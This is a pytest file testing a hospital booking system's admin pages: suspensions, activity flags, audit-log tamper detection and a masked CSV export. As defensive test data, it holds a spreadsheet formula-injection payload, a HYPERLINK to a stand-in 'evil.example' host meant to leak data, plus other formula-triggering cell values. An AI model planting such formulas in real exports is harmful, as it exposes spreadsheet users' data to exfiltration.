"""Oversight pages: suspensions and lifting them, flagged activity, the audit log and
the CSV export of a day's bookings, on SQLite and PostgreSQL.

Each flag is shown a case made through the service layer and a non-case next to it.
Patients must appear masked everywhere: every test also looks for the full ID number,
name or phone number and must not find it.
"""

from __future__ import annotations

import csv
import io
import re
from dataclasses import replace
from datetime import date

import pytest
from sqlalchemy import select, text, update

from assistant.booking import audit, identity, results as r, service
from assistant.booking.models import AuditEvent, AuditHead, Booking, Suspension
from assistant.booking import oversight
from assistant.booking.oversight import audit_page, shown_value
from assistant.booking.service import AddressInput
from assistant.web.admin.oversight import csv_cell
from tests.support import department_id, new_slot, person, phone
from tests.web.conftest import csrf_token

VISIT = date(2026, 12, 5)  # released 28 Nov 15:00; booking and cancelling close 4 Dec 16:00
ATTACKER = AddressInput("phone", "+86 139 0000 0202")
ATTACKER_E164 = "+8613900000202"
ADMIN_PAGES = ("/admin/suspensions", "/admin/flags", "/admin/audit")


def slot(app, code: str, hh: int, day: date = VISIT, **kw) -> int:
    with app.services.uow.read_only() as uow:
        dept = department_id(uow.session, code)
    return new_slot(app.services, dept, day, hh, **kw)


def book(app, who, slot_id: int, by: AddressInput, relation: str = "self", key: str | None = None):
    return service.book_slot(app.services, identity_input=who, slot_id=slot_id, channel="sms",
                             now=app.clock(), booked_by=by, relation=relation, idempotency_key=key)


def booked(app, who, slot_id: int, by: AddressInput, relation: str = "self") -> str:
    result = book(app, who, slot_id, by, relation)
    assert isinstance(result, r.Booked), result
    return result.booking.code


def cancel(app, code: str, by: AddressInput) -> None:
    result = service.cancel_booking(app.services, code=code, requester=by, channel="sms", now=app.clock())
    assert isinstance(result, r.Cancelled), result


def book_and_cancel(app, who, by: AddressInput, hours=(9, 10, 11), code: str = "orthopedics") -> None:
    for hour in hours:
        cancel(app, booked(app, who, slot(app, code, hour), by, "family"), by)


def mask(who) -> str:
    return identity.mask_id(who.number)


def page(client, path: str) -> str:
    response = client.get(path)
    assert response.status_code == 200, (path, response.status_code)
    body = response.get_data(as_text=True)
    assert "<script" not in body and "style=" not in body  # the CSP forbids both
    return body


def section(body: str, section_id: str) -> str:
    found = re.search(rf'<section id="{section_id}">(.*?)</section>', body, re.S)
    assert found, section_id
    return found.group(1)


def suspensions(app) -> list[Suspension]:
    with app.services.uow.read_only() as uow:
        found = uow.session.execute(select(Suspension).order_by(Suspension.id)).scalars().all()
        uow.session.expunge_all()
        return found


def suspend_identity(app, number_holder) -> int:
    """A suspension of an identity, as the service starts one (its rules are tested in
    tests/integration): the patient's own phone books, the row is added."""
    code = booked(app, number_holder, slot(app, "general", 8), phone(40))
    with app.services.uow() as uow:
        patient_id = uow.session.execute(select(Booking.patient_id).where(Booking.code == code)).scalar_one()
        row = Suspension(patient_id=patient_id, rule="no_shows", starts_at=app.clock(),
                         ends_at=app.clock().replace(year=2027))
        uow.session.add(row)
        uow.session.flush()
        suspension_id = row.id
        uow.commit()
    return suspension_id


# ---- suspensions -------------------------------------------------------------------------------


def test_suspensions_are_listed_masked_and_lifted_with_a_reason_under_the_admins_name(web_app, admin_client):
    victim = person("Wang Fang", sequence=101)
    book_and_cancel(web_app, victim, ATTACKER)  # the third cancellation suspends the attacker's phone
    patient = person("Li Wei", sequence=102)
    suspend_identity(web_app, patient)
    [by_address, by_identity] = suspensions(web_app)
    assert by_address.address_id is not None and by_identity.patient_id is not None

    body = page(admin_client, "/admin/suspensions")
    table = re.search(r'<table id="suspensions">(.*?)</table>', body, re.S).group(1)
    assert identity.mask_phone(ATTACKER_E164) in table and identity.mask_id(patient.number) in table
    for secret in (ATTACKER_E164, ATTACKER_E164[3:], patient.number, victim.number, "Wang Fang", "Li Wei"):
        assert secret not in body

    token = csrf_token(admin_client, "/admin/suspensions")
    refused = admin_client.post(f"/admin/suspensions/{by_address.id}/lift",
                                data={"reason": "   ", "csrf_token": token}, follow_redirects=True)
    assert "Please write why the suspension is lifted" in refused.get_data(as_text=True)
    assert suspensions(web_app)[0].lifted_at is None

    lifted = admin_client.post(f"/admin/suspensions/{by_address.id}/lift",
                               data={"reason": "Booked by mistake", "csrf_token": token}, follow_redirects=True)
    assert "Suspension lifted" in lifted.get_data(as_text=True)
    row = suspensions(web_app)[0]
    assert row.lifted_by == "admin" and row.lift_reason == "Booked by mistake"
    with web_app.services.uow.read_only() as uow:
        event = uow.session.execute(select(AuditEvent.actor, AuditEvent.subject)
                                    .where(AuditEvent.action == "suspension.lifted")).one()
    assert tuple(event) == ("staff:admin", f"suspension:{by_address.id}")
    table = re.search(r'<table id="suspensions">(.*?)</table>', page(admin_client, "/admin/suspensions"), re.S).group(1)
    assert identity.mask_phone(ATTACKER_E164) not in table and identity.mask_id(patient.number) in table

    again = admin_client.post(f"/admin/suspensions/{by_address.id}/lift",
                              data={"reason": "twice", "csrf_token": token}, follow_redirects=True)
    assert "no longer in force" in again.get_data(as_text=True)


# ---- flagged activity ----------------------------------------------------------------------------


def test_each_flag_shows_its_case_and_not_the_case_next_to_it(web_app, admin_client):
    # At the limit (3 patients, the default): phone 1. Phone 2 books for one.
    crowd = [person("Zhao Lei", sequence=110 + n) for n in range(3)]
    for n, who in enumerate(crowd):
        booked(web_app, who, slot(web_app, "cardiology", 8 + n), phone(1), "family")
    booked(web_app, person("Qian Hui", sequence=114), slot(web_app, "cardiology", 8), phone(2), "family")
    # Claimed as "for me" by phones 3 and 4; another only by phone 5.
    claimed, single = person("Sun Li", sequence=115), person("Zhou Yu", sequence=116)
    booked(web_app, claimed, slot(web_app, "ophthalmology", 8), phone(3))
    booked(web_app, claimed, slot(web_app, "endocrinology", 8), phone(4))
    booked(web_app, single, slot(web_app, "ophthalmology", 9), phone(5))
    # Booked under two names; another twice under one.
    renamed, same = person("Zhang Wei", sequence=117), person("Wu Hong", sequence=118)
    booked(web_app, renamed, slot(web_app, "general", 8), phone(6))
    booked(web_app, replace(renamed, name="Zhang Min"), slot(web_app, "pediatrics", 8), phone(6))
    booked(web_app, same, slot(web_app, "general", 9), phone(6))
    booked(web_app, same, slot(web_app, "pediatrics", 9), phone(6))
    # Three cancellations (the cancellation limit) for one; one for another.
    cancelling, once = person("Zheng Jie", sequence=119), person("Feng Yan", sequence=120)
    book_and_cancel(web_app, cancelling, phone(7))
    book_and_cancel(web_app, once, phone(8), hours=(12,))
    # A burst of refusals from one phone (as the conversation backend counts them), and
    # a few from another, which is no burst.
    when = web_app.clock()
    for n in range(oversight.REFUSAL_BURST):
        service.note_refusal(web_app.services, phone(9), "quota_exceeded" if n else "suspended", now=when)
    for _ in range(oversight.REFUSAL_BURST - 1):
        service.note_refusal(web_app.services, phone(10), "slot_full", now=when)

    body = page(admin_client, "/admin/flags")
    limit = section(body, "flag-limit")
    assert identity.mask_phone("+8613800138001") in limit and identity.mask_phone("+8613800138002") not in limit
    claims = section(body, "flag-claims")
    assert mask(claimed) in claims and mask(single) not in claims
    names = section(body, "flag-names")
    assert mask(renamed) in names and mask(same) not in names and mask(claimed) not in names
    cancellations = section(body, "flag-cancellations")
    assert mask(cancelling) in cancellations and mask(once) not in cancellations
    refusals = section(body, "flag-refusals")
    assert identity.mask_phone(_e164(phone(9))) in refusals and identity.mask_phone(_e164(phone(10))) not in refusals
    assert "Too many bookings" in refusals
    everyone = crowd + [claimed, single, renamed, same, cancelling, once]
    for secret in [who.number for who in everyone] + ["Zhang Wei", "Zhang Min", "+8613800138001"]:
        assert secret not in body


def _e164(address) -> str:
    return identity.normalise_phone_address(address.value, "CN")


def test_the_flags_say_when_nothing_is_flagged(admin_client):
    body = page(admin_client, "/admin/flags")
    for section_id in ("flag-limit", "flag-claims", "flag-names", "flag-cancellations"):
        assert "None." in section(body, section_id)
    assert "None." in section(body, "flag-refusals")


# ---- the audit log -------------------------------------------------------------------------------


def test_the_audit_log_verifies_shows_patients_by_row_id_only_and_notices_tampering(web_app, admin_client):
    patient = person("Wang Fang", sequence=130)
    suspension_id = suspend_identity(web_app, patient)
    reason = "Wang Fang phoned from +8613800138000"
    assert isinstance(service.lift_suspension(web_app.services, suspension_id=suspension_id,
                                              staff=service.Staff("admin"), reason=reason,
                                              now=web_app.clock()), r.SuspensionLifted)
    with web_app.services.uow() as uow:  # an older event naming the patient as "<id>/**<last 4>"
        audit.append(uow.session, web_app.services.keyring.audit_key, actor=audit.SYSTEM,
                     action="test.legacy", subject="patient:7/**1234", details={"patient": "7/**1234"},
                     at=web_app.clock())
        uow.commit()

    body = page(admin_client, "/admin/audit")
    status = re.search(r'<div id="audit-status" class="card">(.*?)</div>', body, re.S).group(1)
    assert "The audit chain verifies" in status and "match the audit trail" in status and "NOT" not in status
    with web_app.services.uow.read_only() as uow:
        head = uow.session.execute(select(AuditHead.last_event_id, AuditHead.last_hash)).one()
        patient_id = uow.session.execute(select(Suspension.patient_id)).scalar_one()
    assert f"Newest event: {head.last_event_id}" in status and head.last_hash in status
    assert f"patient: {patient_id}" in body and "suspension.lifted" in body and "staff:admin" in body
    assert "patient:7<" in body and "**1234" not in body
    for secret in (reason, "Wang Fang", "+8613800138000", patient.number, identity.mask_id(patient.number)):
        assert secret not in body

    with web_app.services.uow() as uow:
        uow.session.execute(text("UPDATE audit_event SET actor = 'staff:mallory' WHERE id = 1"))
        uow.commit()
    status = re.search(r'<div id="audit-status" class="card">(.*?)</div>', page(admin_client, "/admin/audit"),
                       re.S).group(1)
    assert "The audit chain does NOT verify" in status and "event 1: contents do not match its hash" in status


def test_the_audit_log_pages_back_by_event_id(web_app, admin_client):
    first = audit_page(web_app.services, size=2)
    assert len(first.rows) == 2 and first.rows[0].id > first.rows[1].id and first.older == first.rows[1].id
    second = audit_page(web_app.services, before=first.older, size=2)
    assert second.rows[0].id < first.older
    body = page(admin_client, f"/admin/audit?before={first.older}")
    assert 'id="audit-status"' not in body and f"<td>{first.rows[0].id}</td>" not in body
    assert f"<td>{second.rows[0].id}</td>" in body


def test_audit_details_show_codes_and_row_ids_and_withhold_anything_typed():
    assert shown_value("patient", 7) == "7" and shown_value("patient", "7/**1234") == "7"
    assert shown_value("patient", "Wang Fang") is None
    assert shown_value("rule", "no_shows") == "no_shows" and shown_value("slot", 12) == "12"
    assert shown_value("until", "2026-12-31T01:00:00+00:00") == "2026-12-31T01:00:00+00:00"
    for typed in ("Wang Fang was ill", "110105195003070012", "+8613800138000", "王芳"):
        assert shown_value("reason", typed) is None
    assert shown_value("removed_slots", [3, 4]) == "3, 4" and shown_value("capacities", {"1": 3, "2": 2}) == "[2]"
    assert shown_value("names", ["ok", "Wang Fang"]) == "[2]"


# ---- the CSV export ------------------------------------------------------------------------------


def test_the_csv_has_the_days_bookings_masked_and_defused(web_app, clerk_client):
    wang, li, third = person("Wang Fang", sequence=140), person("-Li Na", sequence=141), person("Ma Yun", sequence=142)
    code = booked(web_app, wang, slot(web_app, "cardiology", 9), phone(1))
    dashed = booked(web_app, li, slot(web_app, "cardiology", 10), phone(2))
    formula = booked(web_app, third, slot(web_app, "cardiology", 11), phone(3))
    other_day = booked(web_app, wang, slot(web_app, "cardiology", 9, day=date(2026, 12, 4)), phone(1))
    hyperlink = '=HYPERLINK("http://evil.example/?leak","click")'
    with web_app.services.uow() as uow:  # a name no channel accepts today, as an older row might hold
        uow.session.execute(update(Booking).where(Booking.code == formula)
                            .values(name_encrypted=web_app.services.keyring.encrypt(hyperlink)))
        uow.commit()

    response = clerk_client.get("/admin/export.csv?day=2026-12-05")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"] == 'attachment; filename="careline-bookings-2026-12-05.csv"'
    body = response.get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))
    assert rows[0] == ["Code", "Visit time", "Department", "Status", "ID number (masked)", "Name (masked)",
                       "Channel", "Flags"]
    by_code = {row[0]: row for row in rows[1:]}
    assert set(by_code) == {code, dashed, formula} and other_day not in body
    assert by_code[code][1:7] == ["2026-12-05 09:00", "cardiology", "Booked", identity.mask_id(wang.number),
                                  "W*** F***", "sms"]
    assert by_code[dashed][5] == "'-** N*"
    assert by_code[formula][5].startswith("'=") and "HYPERLINK" not in body
    for secret in (wang.number, li.number, third.number, "Wang Fang", "Li Na", "Ma Yun", "+8613800138001"):
        assert secret not in body
    with web_app.services.uow.read_only() as uow:  # who took the file is on record
        exported = uow.session.execute(select(AuditEvent.actor, AuditEvent.subject, AuditEvent.details)
                                       .where(AuditEvent.action == "bookings.exported")).one()
    assert tuple(exported) == ("staff:clerk", "day:2026-12-05", {"rows": 3})


def test_the_export_asks_for_a_day_it_can_read(clerk_client):
    assert 'id="export-day" name="day"' in page(clerk_client, "/admin/export")
    for query in ("", "?day=", "?day=5 Dec"):
        response = clerk_client.get(f"/admin/export.csv{query}")
        assert response.status_code == 302 and response.location.endswith("/admin/export")


@pytest.mark.parametrize("value,cell", [("=1+1", "'=1+1"), ("+86", "'+86"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"),
                                        ("\tx", "'\tx"), ("W*** F***", "W*** F***"), ("", "")])
def test_a_cell_a_spreadsheet_would_run_gets_an_apostrophe(value, cell):
    assert csv_cell(value) == cell


# ---- who may open what ------------------------------------------------------------------------


def test_a_clerk_may_export_but_not_open_the_admins_oversight(clerk_client, admin_client):
    for path in ADMIN_PAGES:
        assert clerk_client.get(path).status_code == 403
    token = csrf_token(clerk_client, "/admin/")
    assert clerk_client.post("/admin/suspensions/1/lift", data={"reason": "x", "csrf_token": token}).status_code == 403
    assert clerk_client.get("/admin/export.csv?day=2026-12-05").status_code == 200
    home = page(clerk_client, "/admin/")
    assert "/admin/export" in home and not any(path in home for path in ADMIN_PAGES)
    home = page(admin_client, "/admin/")
    assert all(path in home for path in ADMIN_PAGES + ("/admin/export",))
